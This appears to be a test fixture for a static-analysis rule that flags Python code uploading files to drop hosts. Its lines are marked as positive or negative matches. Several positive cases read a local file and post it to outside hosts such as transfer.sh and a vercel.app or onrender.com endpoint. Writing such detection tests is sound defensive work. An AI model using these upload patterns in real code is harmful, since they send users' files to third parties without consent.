"""Sample (inert): uploads of a file to drop hosts and to a service's own API."""
import sys

import httpx
import requests

DROP = "https://backup-helper.onrender.com/upload"
OWN_API = "https://api.example.com/v1/files"


def backup(path):
    with open(path, "rb") as f:
        # ruleid: py-upload-to-drop-host
        requests.post(DROP, files={"file": f})
    with open(path, "rb") as fh:
        # ruleid: py-upload-to-drop-host
        requests.put("https://files.example-app.vercel.app/put", data=fh)
    # ruleid: py-upload-to-drop-host
    httpx.post(url="https://transfer.sh/upload", content=open(path, "rb").read())
    with open(path, "rb") as f:
        # ok: py-upload-to-drop-host
        requests.post(OWN_API, files={"file": f})
    # ok: py-upload-to-drop-host
    requests.post(DROP, json={"status": "done"})
    # ok: py-upload-to-drop-host
    requests.get(DROP)
    with open(path, "rb") as f:
        # ok: py-upload-to-drop-host
        requests.post("https://onrender.com/api/upload", files={"file": f})


if __name__ == "__main__":
    backup(sys.argv[1])
